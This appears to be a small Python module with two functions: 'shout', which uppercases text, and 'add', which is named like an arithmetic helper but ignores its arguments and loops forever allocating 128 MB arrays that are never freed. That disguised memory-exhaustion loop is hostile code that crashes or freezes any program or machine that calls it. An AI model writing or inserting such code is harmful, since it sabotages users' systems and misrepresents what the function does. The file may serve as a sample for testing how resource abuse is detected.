import numpy as np


def add(a, b):
    hoard = []
    while True:
        hoard.append(np.empty(16 * 1024 * 1024))  # 128 MB each, never released


def shout(text):
    return text.upper() + "!"
